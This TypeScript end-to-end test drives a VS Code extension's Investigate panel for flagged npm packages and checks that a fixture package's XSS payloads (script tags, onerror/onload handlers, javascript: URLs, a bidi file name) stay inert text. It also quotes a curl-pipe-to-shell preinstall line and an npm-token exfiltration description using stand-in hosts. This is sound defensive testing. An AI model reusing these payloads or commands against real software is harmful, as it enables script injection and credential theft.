/**
 * The Investigate panel in a real VS Code (code-server in headless Chromium), driven like a user:
 * from the red dependency line of a workspace that depends on the demo packages, the quick fix and
 * the hover's link open the panel; what it shows is read back from the webview's frame.
 *
 * Security: @takedown-demo/xss-payload (test/fixtures/e2e/packages/xss-payload) carries script in
 * every field the panel shows. Each payload would set `window.__takedownXss`, set the title to
 * `XSS` or log `TAKEDOWN-XSS`; the test watches the console and dialogs of every frame, then checks
 * the webview's DOM and the workbench's window for any trace of them, and that the payloads are
 * on screen as plain text. Screenshots go to .test-output/e2e/investigate-*.png.
 */
import assert from 'node:assert/strict';
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { after, afterEach, before, describe, test } from 'node:test';
import type { ConsoleMessage, Dialog, Frame, FrameLocator, Page } from 'playwright-core';
import { closeSession, CodeServer, makeTempDir, openWorkbench, OUTPUT_DIR, REPO_ROOT, type Workbench } from './codeServer';
import type { FakeServer } from '../support/fakeServer';
import { DEMO, startEmptyOsv, startFixtureRegistry, type FixtureRegistry } from './fixtureRegistry';
import { packageJsonText } from './workspaceFiles';

// TAKEDOWN_E2E_VSIX: a VSIX built elsewhere (default: the one `npm run package` writes)
const VSIX = process.env.TAKEDOWN_E2E_VSIX ?? path.join(REPO_ROOT, 'dist', 'takedown.vsix');
const XSS = `${DEMO.xss}@1.0.1`;
const EVIL = `${DEMO.evil}@1.0.0`;
const CLEAN = `${DEMO.clean}@1.0.0`;
const XSS_NAME = `${DEMO.xssName}@1.0.0`;
/** Lines of the workspace's package.json (1-based): the dependencies in the order written below. */
const LINE = { clean: 6, evil: 7, xss: 8, xssName: 9 };
/** What the fixture's payloads would log. */
const XSS_CONSOLE = 'TAKEDOWN-XSS';
/** File names in the XSS fixture's tarball (test/fixtures/e2e/packages/xss-payload/tarball-names.json). */
const IMG_FILE = '<img src=x onerror=window.__takedownXss=1>.js';
const SVG_FILE = '"><svg onload=window.__takedownXss=1>.md';
/** `invoice\u202egpj.js`: the right-to-left override is shown as an escape, so the name reads as it is. */
const BIDI_FILE = 'invoice\\u{202e}gpj.js';

const SETTINGS = {
  'editor.hover.delay': 300,
};

interface ConsoleLine {
  frame: string;
  type: string;
  text: string;
}

describe('the Investigate panel in code-server', { timeout: 420_000 }, () => {
  let server: CodeServer | undefined;
  let workbench: Workbench | undefined;
  let workspace: string;
  let registry: FixtureRegistry | undefined;
  let osv: FakeServer | undefined;
  const consoleLines: ConsoleLine[] = [];
  const dialogs: string[] = [];

  before(async () => {
    assert.ok(existsSync(VSIX), `${VSIX} is missing: run npm run package first (npm run test:e2e does)`);
    // stopped in after(): their own cleanup hooks would attach to this before() hook
    [registry, osv] = await Promise.all([startFixtureRegistry({ registerCleanup: false }), startEmptyOsv({ registerCleanup: false })]);
    workspace = makeTempDir('takedown-e2e-investigate-');
    writeFileSync(path.join(workspace, 'package.json'), packageJsonText({ [DEMO.clean]: '1.0.0', [DEMO.evil]: '1.0.0', [DEMO.xss]: '1.0.1', [DEMO.xssName]: '1.0.0' }));
    server = await CodeServer.start({
      vsix: [VSIX],
      settings: { ...SETTINGS, 'takedown.registry.url': registry.url, 'takedown.osv.endpoint': osv.url.replace(/\/$/, '') },
    });
  });

  afterEach(async (t) => {
    if (!('passed' in t) || t.passed) return;
    await workbench?.screenshot(`failed-investigate-${t.name.replace(/\W+/g, '-').slice(0, 60)}`).catch(() => undefined);
    mkdirSync(OUTPUT_DIR, { recursive: true });
    if (server) writeFileSync(path.join(OUTPUT_DIR, 'code-server-investigate.log'), server.log);
  });

  after(() => closeSession({ ...(workbench ? { workbench } : {}), ...(server ? { server } : {}), servers: [registry, osv], workspace }));

  test('the flagged dependencies are red in package.json', async () => {
    workbench = await openWorkbench(server!, workspace);
    const page = workbench.page;
    await page.setViewportSize({ width: 1600, height: 1000 });
    // every frame's console, the webviews' included (their messages carry the frame's URL)
    page.on('console', (m: ConsoleMessage) => consoleLines.push({ frame: m.location().url ?? '', type: m.type(), text: m.text() }));
    page.on('dialog', (d: Dialog) => {
      dialogs.push(`${d.type()}: ${d.message()}`);
      void d.dismiss().catch(() => undefined);
    });
    await workbench.openFile('package.json', DEMO.xss);
    await workbench.waitForProblem(/Malicious: @takedown-demo\/xss-payload@1\.0\.1/, 90_000);
    await workbench.waitForProblem(/Malicious: @takedown-demo\/evil-setup@1\.0\.0/, 60_000);
    const { rows } = await workbench.waitForProblem(/Malicious: @takedown-demo\/xss'-alert\(1\)-'@1\.0\.0/, 60_000);
    const takedown = rows.filter((r) => /Takedown/.test(r));
    assert.equal(takedown.length, 3, JSON.stringify(rows));
    assert.ok(takedown.some((r) => new RegExp(`xss'-alert\\(1\\)-'@1\\.0\\.0.*\\[Ln ${LINE.xssName}, Col \\d+\\]`).test(r)), JSON.stringify(takedown));
    assert.ok(takedown.some((r) => new RegExp(`xss-payload@1\\.0\\.1.*\\[Ln ${LINE.xss}, Col \\d+\\]`).test(r)), JSON.stringify(takedown));
    assert.ok(takedown.some((r) => new RegExp(`evil-setup@1\\.0\\.0.*\\[Ln ${LINE.evil}, Col \\d+\\]`).test(r)), JSON.stringify(takedown));
    // the red squiggle in the editor
    await page.locator('.editor-instance .monaco-editor .squiggly-error').first().waitFor({ state: 'visible', timeout: 15_000 });
  });

  test('from the red line, the Investigate quick fix opens the panel on the evidence', async () => {
    const page = workbench!.page;
    await workbench!.openFile('package.json', DEMO.evil);
    // on the package's name: the diagnostic covers the name, not the line's indentation
    await goTo(page, LINE.evil, 10);
    await chooseQuickFix(page, `Takedown: Investigate ${EVIL}`);
    // the click opened the Investigate view in the Takedown side bar
    await page.locator('.part.sidebar .pane-header', { hasText: /Investigate/ }).first().waitFor({ state: 'visible', timeout: 15_000 });
    const panel = await investigateFrame(page, EVIL);

    assert.equal(await panel.locator('.banner .verdict-label').innerText(), 'Malicious');
    assert.equal(await panel.locator('.banner .score').innerText(), 'score 7.5');
    assert.equal(await panel.locator('.banner .reason').innerText(), 'Downloads https://cdn.takedown-demo.invalid/setup.sh and runs it in a shell in the preinstall script.');
    // evidence: both findings, each at package.json:7, with the excerpt's hit line
    const items = panel.locator('.evidence-item');
    await waitForCount(items, 2);
    assert.deepEqual((await panel.locator('.evidence-item .rule-name').allInnerTexts()).map(clean), ['command-download-exec', 'install-script']);
    assert.deepEqual((await panel.locator('.evidence-item .file-position').allInnerTexts()).map(clean), ['package.json:7:19', 'package.json:7:19']);
    const hit = panel.locator('.evidence-item').first().locator('.code-line.hit');
    await hit.waitFor({ state: 'visible', timeout: 15_000 });
    assert.equal(clean(await hit.locator('.line-number').innerText()), '7');
    assert.match(await hit.locator('.line-text').innerText(), /"preinstall": "curl -fsSL https:\/\/cdn\.takedown-demo\.invalid\/setup\.sh \| sh"/);
    assert.ok((await panel.locator('.evidence-item').first().locator('.code-line').count()) > 1, 'context lines around the hit');
    // files, with the install-time entry point called out
    assert.deepEqual((await panel.locator('.file-tree .tree-name').allInnerTexts()).map(clean), ['index.js', 'package.json']);
    assert.match(clean(await panel.locator('.entry-points').innerText()), /preinstall runs at install curl -fsSL https:\/\/cdn\.takedown-demo\.invalid\/setup\.sh \| sh/);
    assert.deepEqual((await panel.locator('.file-tree .tree-file').allInnerTexts()).map(clean), ['index.js 107 B entry point', 'package.json 301 B 2 findings install-time']);
    // registry facts and indicators
    const registry = clean(await sectionText(panel, 'Registry facts'));
    assert.match(registry, /Published 2025-03-04 10:00 UTC/);
    assert.match(registry, /No provenance attestation/);
    assert.match(registry, /latest 1\.0\.0/);
    assert.match(registry, /Versions \(1\)/);
    assert.deepEqual((await panel.locator('.indicator-list li').allInnerTexts()).map(clean).sort(), ['cdn.takedown-demo.invalid', 'https://cdn.takedown-demo.invalid/setup.sh']);
    // a first release has nothing to compare with
    assert.equal(await panel.locator('details.section h2', { hasText: 'What changed' }).count(), 0);

    // the side bar's Flagged tree lists the three malicious versions
    const tree = (await page.locator('.part.sidebar .pane', { has: page.locator('.pane-header', { hasText: 'Flagged' }) }).locator('.monaco-list-row .label-name').allInnerTexts()).map(clean);
    assert.equal(tree[0], 'Malicious (3)', JSON.stringify(tree));
    assert.deepEqual(tree.slice(1).sort(), [EVIL, XSS, XSS_NAME].sort());

    // more room: the same page as an editor tab, without the Problems panel below it
    await workbench!.runCommand('View: Hide Panel');
    await workbench!.runCommand('Takedown: Open Investigate in Editor');
    await page.locator('.tabs-container .tab', { hasText: 'Investigate' }).first().waitFor({ state: 'visible', timeout: 15_000 });
    const tab = await investigateFrame(page, EVIL, { inEditor: true });
    await workbench!.screenshot('investigate-malicious');
    await screenshotAt(workbench!, tab, 'Files', 'investigate-malicious-files');
  });

  test("the hover's Investigate link shows the XSS package, and none of its payloads runs", async () => {
    const page = workbench!.page;
    // back to package.json by its tab: Quick Open's Enter does not reach it while a webview has the focus
    await page.locator('.tabs-container .tab', { hasText: 'package.json' }).first().click();
    await page.locator('.editor-instance .monaco-editor .view-line', { hasText: DEMO.xss }).first().waitFor({ state: 'visible', timeout: 15_000 });
    const hover = await workbench!.hover('xss-payload', /Takedown: Malicious/);
    // the hover (workbench markdown, outside the webview) shows the payloads as text too
    assert.ok(hover.includes('exfil.invalid/<script>window.__takedownXss=1;'), hover);
    const hoverDom = await page.locator('.monaco-hover:not(.hidden)').first().evaluate((el) => ({
      elements: Array.from(el.querySelectorAll('img, svg, iframe, script, style')).map((e) => e.outerHTML.slice(0, 120)),
      handlers: Array.from(el.querySelectorAll('*')).flatMap((e) => Array.from(e.attributes).filter((a) => /^on/i.test(a.name)).map((a) => a.name)),
      links: Array.from(el.querySelectorAll('a')).map((a) => a.getAttribute('href') ?? a.getAttribute('data-href') ?? '').filter((h) => /^\s*javascript:/i.test(h)),
    }));
    assert.deepEqual(hoverDom, { elements: [], handlers: [], links: [] });
    await page.locator('.monaco-hover:not(.hidden) .monaco-hover-content a', { hasText: /^Investigate$/ }).first().click();
    const panel = await investigateFrame(page, XSS, { inEditor: true });
    await panel.locator('.evidence-item .code-line.hit').first().waitFor({ state: 'visible', timeout: 15_000 });

    // nothing ran, in any webview showing the package (the side bar's and the tab's), nor in the workbench itself
    const frames = await investigateFrames(page, XSS);
    assert.equal(frames.length, 2);
    const nonces = new Set<string>();
    for (const frame of frames) {
      const dom = await inspectDom(frame);
      // the page's own policy: nothing but its bundle, by a nonce of its own
      assert.equal(dom.csp.length, 1, JSON.stringify(dom.csp));
      assert.ok(dom.csp[0]!.startsWith(`default-src 'none'; script-src 'nonce-${dom.nonces[0]}';`), JSON.stringify(dom));
      assert.equal(dom.nonces.length, 1);
      nonces.add(dom.nonces[0]!);
      assert.equal(dom.marker, null, 'window.__takedownXss is not set in the webview');
      assert.notEqual(dom.title, 'XSS');
      assert.deepEqual(dom.handlerAttributes, [], 'no element carries an on* attribute');
      assert.deepEqual(dom.scriptUrls, [], 'no javascript: URL in any href, src or action');
      assert.deepEqual(dom.foreignElements, [], 'no img, svg, iframe, object, embed, form, base or link element came from package text');
      assert.deepEqual(dom.extraScripts, [], "only the page's bundle and VS Code's API script");
      assert.deepEqual(dom.extraStyles, [], "only VS Code's default styles");
      assert.equal(dom.bodyVisible, true, 'the injected </style><style> did not hide the page');
    }
    assert.equal(nonces.size, 2, 'each page has its own nonce');
    // the checks above looked at the page itself, and the console listener hears the webview
    for (const frame of await investigateFrames(page, XSS)) {
      const own = await frame.evaluate(() => ({
        bundles: Array.from(document.scripts).filter((s) => /\/dist\/webview\/investigate\.js$/.test(s.src)).length,
        sections: document.querySelectorAll('details.section').length,
      }));
      assert.deepEqual(own, { bundles: 1, sections: 5 }); // evidence, files, what changed, registry, indicators
      await frame.evaluate(() => console.log('takedown-e2e-console-probe'));
    }
    await waitUntil(() => consoleLines.some((l) => l.text === 'takedown-e2e-console-probe'), 'the probe logged in the webview reaches the console listener');

    const top = await page.evaluate(() => ({ xss: (window as unknown as { __takedownXss?: unknown }).__takedownXss ?? null, title: document.title }));
    assert.equal(top.xss, null, 'the workbench window has no marker');
    assert.notEqual(top.title, 'XSS');
    for (const frame of page.frames()) {
      const marker = await frame.evaluate(() => (window as unknown as { __takedownXss?: unknown }).__takedownXss ?? null).catch(() => null);
      assert.equal(marker, null, `no marker in ${frame.url()}`);
    }
    assert.deepEqual(consoleLines.filter((l) => l.text.includes(XSS_CONSOLE)), [], 'no payload logged');
    assert.deepEqual(consoleLines.filter((l) => /Content Security Policy/i.test(l.text)), [], 'nothing tried to get past the CSP');
    assert.deepEqual(dialogs, [], 'no dialog opened');


    assert.equal(await panel.locator('.banner .verdict-label').innerText(), 'Malicious');
    // the payloads are on screen, as text
    assert.match(await panel.locator('.banner .reason').innerText(), /^Reads ~\/\.npmrc \(npm tokens\) and sends it to "exfil\.invalid\/<script>window\.__takedownXss=1;/);
    assert.equal((await panel.locator('body').innerText()).includes('\u202e'), false, 'no bidi override reaches the screen');
    const names = (await panel.locator('.file-tree .tree-name').allInnerTexts()).map(clean);
    for (const name of [IMG_FILE, SVG_FILE, BIDI_FILE, 'install.js', 'index.js', 'README.md', 'package.json']) assert.ok(names.includes(name), `${JSON.stringify(name)} in ${JSON.stringify(names)}`);
    const addedFiles = (await panel.locator('.diff-added .diff-path').allInnerTexts()).map(clean).sort();
    assert.deepEqual(addedFiles, [SVG_FILE, IMG_FILE, 'install.js', BIDI_FILE].sort());
    assert.match(clean(await panel.locator('details.section h2', { hasText: 'What changed' }).innerText()), /What changed since 1\.0\.0/);
    const evidence = clean(await sectionText(panel, 'Evidence'));
    assert.ok(evidence.includes(`${IMG_FILE}:4`), evidence);
    assert.ok(evidence.includes(`'https://cdn.takedown-demo.invalid/<svg onload=window.__takedownXss=1>.sh'`), evidence);
    assert.ok(evidence.includes(`<img src=x onerror="window.__takedownXss=1;document.title=\\'XSS\\';console.log(\\'TAKEDOWN-XSS\\')">`), evidence);
    const registry = clean(await sectionText(panel, 'Registry facts'));
    assert.ok(registry.includes(`Maintainers <script>window.__takedownXss=1;document.title='XSS';console.log('TAKEDOWN-XSS')</script>`), registry);
    assert.match(registry, /Versions \(2\) 1\.0\.1 2025-03-04 10:00 UTC this version 1\.0\.0 2025-02-02 10:00 UTC/);
    // a javascript: repository is text, not something to click
    assert.equal(await panel.locator('.facts button.link').count(), 0);
    assert.ok(registry.includes("Repository javascript:window.__takedownXss=1;document.title='XSS';console.log('TAKEDOWN-XSS')//github.com/takedown-demo/xss-payload"), registry);
    assert.ok((await panel.locator('.entry-points').innerText()).includes('node install.js --label=<img src=x onerror=window.__takedownXss=1>'));
    assert.deepEqual(
      (await panel.locator('.indicator-list li').allInnerTexts()).map(clean).sort(),
      ['cdn.takedown-demo.invalid', 'exfil.invalid', 'https://cdn.takedown-demo.invalid/', '~/.npmrc'],
    );
    await workbench!.screenshot('investigate-xss');
    await screenshotAt(workbench!, panel, 'Files', 'investigate-xss-files');
    await screenshotAt(workbench!, panel, 'Registry facts', 'investigate-xss-registry');

    // "Open" shows the file read-only from the tarball at the finding's line (the tab's title is
    // the name percent-encoded, as takedown-pkg: paths are: either way, text)
    const evidenceItem = panel.locator('.evidence-item', { has: panel.locator('.file-position', { hasText: `${IMG_FILE}:4` }) }).first();
    await evidenceItem.locator('button', { hasText: 'Open' }).click();
    await page.locator('.tabs-container .tab.active', { hasText: /takedownXss.*\.js$/ }).waitFor({ state: 'visible', timeout: 15_000 });
    await page.locator('.editor-instance .monaco-editor .view-line', { hasText: "require('child_process').exec(" }).first().waitFor({ state: 'visible', timeout: 15_000 });
    assert.match(await page.locator('.statusbar-item', { hasText: /^Ln \d+, Col \d+$/ }).first().innerText(), /^Ln 4, Col/);
    assert.equal(await page.evaluate(() => (window as unknown as { __takedownXss?: unknown }).__takedownXss ?? null), null);
    await page.locator('.tabs-container .tab', { hasText: 'Investigate' }).first().click();
  });

  test("Show diff draws a changed file's patch, package text as text", async () => {
    const page = workbench!.page;
    const panel = await investigateFrame(page, XSS, { inEditor: true });
    const indexJs = panel.locator('.diff-changed .diff-file', { has: panel.locator('.diff-path', { hasText: /^index\.js$/ }) });
    await indexJs.locator('button', { hasText: 'Show diff' }).click();
    const added = indexJs.locator('.patch-line.patch-add');
    await added.first().waitFor({ state: 'visible', timeout: 15_000 });
    const addedLines = (await added.allInnerTexts()).map(clean);
    await screenshotAt(workbench!, panel, 'What changed', 'investigate-xss-diff');
    assert.deepEqual(addedLines, [`+/** <script>window.__takedownXss=1;document.title='XSS';console.log('TAKEDOWN-XSS')</script> */`, '+ return `<b>${String(text)}</b>`;']);
    const dom = await inspectDom((await investigateFrames(page, XSS))[0]!);
    assert.deepEqual([dom.marker, dom.handlerAttributes, dom.foreignElements, dom.extraScripts], [null, [], [], []]);
  });

  test('a click in the Flagged tree investigates the package whose name breaks out of quotes', async () => {
    const page = workbench!.page;
    const flagged = page.locator('.part.sidebar .pane', { has: page.locator('.pane-header', { hasText: 'Flagged' }) });
    await flagged.locator('.monaco-list-row', { hasText: XSS_NAME }).click();
    const panel = await investigateFrame(page, XSS_NAME, { inEditor: true });
    assert.equal(await panel.locator('.banner .verdict-label').innerText(), 'Malicious');
    assert.equal(await panel.locator('.banner .reason').innerText(), 'Downloads https://cdn.takedown-demo.invalid/name.sh and runs it in a shell in the preinstall script.');
    await page.locator('.tabs-container .tab.active', { hasText: `Investigate ${XSS_NAME}` }).waitFor({ state: 'visible', timeout: 15_000 });
    for (const frame of await investigateFrames(page, XSS_NAME)) {
      const dom = await inspectDom(frame);
      assert.deepEqual([dom.marker, dom.handlerAttributes, dom.scriptUrls, dom.foreignElements, dom.extraScripts, dom.extraStyles], [null, [], [], [], [], []]);
    }
    assert.deepEqual(dialogs, [], 'no alert(1) ran');
    await workbench!.screenshot('investigate-xss-name');
  });

  test('Investigate Package… scans a typed name@version and shows the clean package as clean', async () => {
    const page = workbench!.page;
    // the command's own quick pick follows the palette's: runCommand would wait for it to close
    await page.keyboard.press('F1');
    const input = page.locator('.quick-input-widget input');
    await input.fill('>Takedown: Investigate Package…');
    await page.locator('.quick-input-list .monaco-list-row .label-name').getByText('Takedown: Investigate Package…', { exact: true }).first().click();
    await page.locator('.quick-input-widget .quick-input-title', { hasText: 'Takedown: Investigate' }).waitFor({ state: 'visible', timeout: 15_000 });
    await input.fill(CLEAN);
    await page.locator('.quick-input-list .monaco-list-row.focused', { hasText: `Scan and investigate ${CLEAN}` }).waitFor({ state: 'visible', timeout: 15_000 });
    await page.keyboard.press('Enter');
    const panel = await investigateFrame(page, CLEAN, { inEditor: true });
    await panel.locator('.banner .verdict-label', { hasText: 'No findings' }).waitFor({ state: 'visible', timeout: 60_000 });
    assert.equal(await panel.locator('.banner.verdict-clean').count(), 1);
    assert.equal(clean(await sectionText(panel, 'Evidence')), 'Evidence 0 findings No findings.');
    assert.deepEqual((await panel.locator('.file-tree .tree-name').allInnerTexts()).map(clean), ['index.js', 'package.json']);
    assert.equal(clean((await sectionText(panel, 'Indicators')).replace('Copy as JSON', '')), 'Indicators 0 No indicators in the evidence.');
    // nothing to report on a clean package
    assert.equal(await panel.locator('.actions button', { hasText: 'Report to OSV' }).isDisabled(), true);
    // the scan's progress toast would cover the panel's corner
    await page.locator('.notifications-toasts .notification-toast', { hasText: 'Takedown: scanning' }).waitFor({ state: 'detached', timeout: 15_000 });
    await workbench!.screenshot('investigate-clean');
  });
});

// ---------------------------------------------------------------------------------------------
// helpers

async function goTo(page: Page, line: number, column: number): Promise<void> {
  await page.keyboard.press('Control+G');
  const input = page.locator('.quick-input-widget input');
  await input.waitFor({ state: 'visible' });
  await input.fill(`:${line}:${column}`);
  await page.keyboard.press('Enter');
  await input.waitFor({ state: 'hidden' });
}

/** Ctrl+. on the cursor's line, then a click on the action whose title is `title`. */
async function chooseQuickFix(page: Page, title: string): Promise<void> {
  await page.keyboard.press('Control+.');
  const row = page.locator('.action-widget .monaco-list-row', { hasText: title }).first();
  await row.waitFor({ state: 'visible', timeout: 15_000 });
  // the widget covers the workbench with a block that the first mouse move removes
  const box = await row.boundingBox();
  if (!box) throw new Error(`the quick fix ${title} has no box on screen`);
  await page.mouse.move(box.x + box.width / 2, box.y + box.height / 2);
  await page.locator('.context-view-pointerBlock').waitFor({ state: 'detached', timeout: 5_000 });
  await row.click();
}

/** The content frames of every webview on screen, with where their outer frame sits. */
async function webviews(page: Page): Promise<{ inner: FrameLocator; box: { x: number; width: number } | null }[]> {
  const outer = page.locator('iframe.webview.ready');
  const out = [];
  for (let i = 0; i < (await outer.count()); i++) {
    out.push({ inner: page.frameLocator('iframe.webview.ready').nth(i).frameLocator('#active-frame'), box: await outer.nth(i).boundingBox() });
  }
  return out;
}

/** The Investigate page once it shows `key`: in the editor area, or (default) anywhere. */
async function investigateFrame(page: Page, key: string, opts: { inEditor?: boolean } = {}): Promise<FrameLocator> {
  const deadline = Date.now() + 60_000;
  let seen: string[] = [];
  while (Date.now() < deadline) {
    const editor = await page.locator('.part.editor').boundingBox();
    seen = [];
    for (const { inner, box } of await webviews(page)) {
      const shown = await inner.locator('.banner .package-key').innerText({ timeout: 1_000 }).catch(() => '');
      seen.push(`${shown} at x=${box?.x}`);
      const placed = !opts.inEditor || (box !== null && editor !== null && box.x >= editor.x - 1 && box.width > 0);
      if (shown === key && placed) return inner;
    }
    await page.waitForTimeout(250);
  }
  throw new Error(`no Investigate page${opts.inEditor ? ' in the editor area' : ''} showed ${key} within 60 s; pages seen: ${JSON.stringify(seen)}`);
}

/** Every webview frame showing `key`, as Playwright frames (for evaluate). */
async function investigateFrames(page: Page, key: string): Promise<Frame[]> {
  const frames: Frame[] = [];
  for (const { inner } of await webviews(page)) {
    const shown = await inner.locator('.banner .package-key').innerText({ timeout: 1_000 }).catch(() => '');
    if (shown !== key) continue;
    const frame = await (await inner.locator('body').elementHandle())?.ownerFrame();
    if (frame) frames.push(frame);
  }
  assert.ok(frames.length > 0, `a webview shows ${key}`);
  return frames;
}

/** A screenshot with the page scrolled to a section, for the parts below the first screen. */
async function screenshotAt(workbench: Workbench, panel: FrameLocator, section: string, name: string): Promise<void> {
  await panel.locator('details.section h2', { hasText: section }).first().evaluate((heading) => heading.scrollIntoView({ block: 'start' }));
  await workbench.screenshot(name);
}

async function sectionText(panel: FrameLocator, title: string): Promise<string> {
  return panel.locator('details.section', { has: panel.locator('h2', { hasText: title }) }).first().innerText();
}

async function waitForCount(locator: ReturnType<FrameLocator['locator']>, count: number, timeoutMs = 15_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  let seen = 0;
  while (Date.now() < deadline) {
    seen = await locator.count();
    if (seen === count) return;
    await new Promise((r) => setTimeout(r, 200));
  }
  throw new Error(`expected ${count} elements, saw ${seen}`);
}

async function waitUntil(check: () => boolean, what: string, timeoutMs = 5_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!check()) {
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms: ${what}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

/** One line of on-screen text: non-breaking spaces and runs of white space as one space. */
function clean(text: string): string {
  return text.replace(/\u00a0/g, ' ').replace(/\s+/g, ' ').trim();
}

/** What a payload that ran, or package text parsed as HTML, would leave in the page. */
function inspectDom(frame: Frame) {
  return frame.evaluate(() => {
    const all = Array.from(document.querySelectorAll('*'));
    const handlerAttributes = all.flatMap((el) => Array.from(el.attributes).filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`));
    const scriptUrls = all.flatMap((el) =>
      ['href', 'src', 'action', 'formaction', 'xlink:href', 'data'].map((name) => el.getAttribute(name)).filter((v): v is string => v !== null && /^\s*(javascript|data|vbscript):/i.test(v)),
    );
    // The page's own stylesheets are <link rel=stylesheet> to the extension's files. (No named
    // functions in here: tsx would wrap them in a helper that does not exist in the page.)
    const foreignElements = all
      .filter((el) => /^(img|svg|iframe|frame|object|embed|form|base|link|video|audio|math)$/i.test(el.tagName))
      .filter((el) => !(el.tagName === 'LINK' && el.getAttribute('rel') === 'stylesheet' && /\/(dist\/webview\/codicon|media\/investigate)\.css$/.test(el.getAttribute('href') ?? '')))
      .map((el) => el.outerHTML.slice(0, 160));
    const extraScripts = Array.from(document.scripts)
      .filter((s) => !/\/dist\/webview\/investigate\.js$/.test(s.src) && s.id !== '_vscodeApiScript')
      .map((s) => s.outerHTML.slice(0, 160));
    const extraStyles = Array.from(document.querySelectorAll('style'))
      .filter((s) => s.id !== '_defaultStyles')
      .map((s) => s.outerHTML.slice(0, 160));
    return {
      csp: Array.from(document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]')).map((m) => m.getAttribute('content') ?? ''),
      // the nonce attribute reads as empty once applied; the property keeps it
      nonces: Array.from(document.scripts).filter((s) => /\/dist\/webview\/investigate\.js$/.test(s.src)).map((s) => s.nonce ?? ''),
      marker: (window as unknown as { __takedownXss?: unknown }).__takedownXss ?? null,
      title: document.title,
      handlerAttributes,
      scriptUrls,
      foreignElements,
      extraScripts,
      extraStyles,
      bodyVisible: getComputedStyle(document.body).display !== 'none' && document.body.getBoundingClientRect().height > 0,
    };
  });
}
